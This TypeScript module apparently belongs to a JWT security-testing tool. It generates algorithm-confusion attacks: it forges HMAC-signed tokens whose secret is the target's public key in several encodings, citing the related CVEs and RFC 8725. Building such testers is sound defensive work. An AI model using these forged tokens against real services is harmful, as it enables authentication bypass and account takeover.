import type { AttackCategory, ForgedAttack, SkippedAttack } from '../attack-types.js';
import { signWith } from '../attack-signer.js';
import {
  forgeToken,
  withHeader,
  type CatalogueContext,
  type TargetPublicKey,
} from './catalogue-context.js';

const HMAC_ALGORITHMS = ['HS256', 'HS384', 'HS512'] as const;

/** At most this many of the target's keys are tried, to keep the run bounded. */
const MAX_KEYS = 3;

/** A public key as the bytes a confused verifier might use as an HMAC secret. */
interface KeyForm {
  readonly name: string;
  readonly bytes: Buffer;
}

/**
 * The forms in which a library may hold a public key when it wrongly treats it as an HMAC
 * secret: PEM (with and without its final newline), PKCS#1 PEM for RSA, DER SPKI, the JWK as
 * JSON, and the raw key bytes.
 */
function keyForms({ key, jwk }: TargetPublicKey): KeyForm[] {
  const pem = key.export({ type: 'spki', format: 'pem' }).toString();
  const forms: KeyForm[] = [
    { name: 'pem', bytes: Buffer.from(pem) },
    { name: 'pem-no-newline', bytes: Buffer.from(pem.trimEnd()) },
    { name: 'der-spki', bytes: key.export({ type: 'spki', format: 'der' }) },
    { name: 'jwk-json', bytes: Buffer.from(JSON.stringify(jwk)) },
  ];
  if (key.asymmetricKeyType === 'rsa') {
    const pkcs1 = key.export({ type: 'pkcs1', format: 'pem' }).toString();
    forms.push({ name: 'pkcs1-pem', bytes: Buffer.from(pkcs1) });
  }
  const raw = rawKeyBytes(jwk);
  if (raw !== null) forms.push({ name: 'raw', bytes: raw });
  return forms;
}

/** RSA: the modulus; EC: the uncompressed point (SEC 1 §2.3.3); OKP: the public key bytes. */
function rawKeyBytes(jwk: TargetPublicKey['jwk']): Buffer | null {
  const decode = (value: unknown): Buffer =>
    Buffer.from(typeof value === 'string' ? value : '', 'base64url');
  if (jwk.kty === 'RSA') return decode(jwk.n);
  if (jwk.kty === 'EC') return Buffer.concat([Buffer.from([4]), decode(jwk.x), decode(jwk.y)]);
  if (jwk.kty === 'OKP') return decode(jwk.x);
  return null;
}

/**
 * Algorithm confusion (CVE-2015-9235, CVE-2016-10555, CVE-2022-29217): HMAC tokens whose
 * secret is the target's own public key, in every common form. RFC 8725 §3.1: one algorithm
 * per key, taken from the key.
 *
 * @example
 * const { attacks, skipped } = buildKeyConfusionAttacks(context);
 */
export function buildKeyConfusionAttacks(context: CatalogueContext): {
  attacks: ForgedAttack[];
  skipped: SkippedAttack[];
} {
  const category: AttackCategory = 'key-confusion';
  if (context.publicKeys.length === 0) {
    return {
      attacks: [],
      skipped: [
        { id: 'key-confusion/*', category, reason: 'needs the public keys: --jwks <url> or --key' },
      ],
    };
  }
  const attacks: ForgedAttack[] = [];
  for (const target of context.publicKeys.slice(0, MAX_KEYS)) {
    for (const form of keyForms(target)) {
      for (const alg of HMAC_ALGORITHMS) {
        attacks.push({
          id: `key-confusion/${alg}-${form.name}${context.publicKeys.length > 1 ? `-${target.label}` : ''}`,
          category,
          sent: `alg ${alg}, original claims, signed with public key ${target.label} as ${form.name}`,
          token: forgeToken(withHeader(context.parts, { alg }), context.parts.payload, (input) =>
            signWith(alg, form.bytes, input),
          ),
        });
      }
    }
  }
  // Keys past the bound are named as skipped: a report must say what it did not try.
  const skipped = context.publicKeys.slice(MAX_KEYS).map((target) => ({
    id: `key-confusion/*-${target.label}`,
    category,
    reason: `only the first ${MAX_KEYS} keys of the JWKS are tried`,
  }));
  return { attacks, skipped };
}
